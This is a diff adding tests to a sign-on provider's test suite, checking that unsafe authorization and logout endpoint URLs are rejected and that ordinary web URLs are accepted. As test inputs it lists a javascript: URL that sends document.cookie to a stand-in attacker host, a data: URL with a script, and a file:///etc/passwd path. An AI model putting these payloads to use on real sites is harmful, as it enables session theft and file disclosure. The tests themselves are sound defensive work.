@@ -180,3 +180,24 @@ describe('a response of the provider', () => {
     await expect(found).rejects.toMatchObject({ name: 'ApiError' })
   })
 })
+
+test.each([
+  'javascript:fetch(`//evil.example/${document.cookie}`)//',
+  'data:text/html,<script>alert(1)</script>',
+  'file:///etc/passwd',
+  'http://login.company.example/authorize',
+  'relative',
+])('a provider whose page is %s is refused, and its page never opened', async page => {
+  const signOn = providerWith(undefined, { authorization_endpoint: page, end_session_endpoint: page })
+  await expect(signOn.check(provider)).rejects.toMatchObject({ type: 'invalidField' })
+  await expect(signOn.authorizationUrl(provider, flow)).rejects.toMatchObject({ type: 'serviceUnavailable' })
+  expect(await signOn.logoutUrl(provider, 'https://rialto.example/')).toBeUndefined()
+})
+
+test('the pages of a provider on the web are opened', async () => {
+  const pages = { authorization_endpoint: `${issuer}/authorize?tenant=1`, end_session_endpoint: `${issuer}/end` }
+  const signOn = providerWith(undefined, pages)
+  await signOn.check(provider)
+  expect(await signOn.authorizationUrl(provider, flow)).toMatch(/\.example\/authorize\?tenant=1&/)
+  expect(await signOn.logoutUrl(provider, 'https://rialto.example/')).toMatch(/\.example\/end\?/)
+})
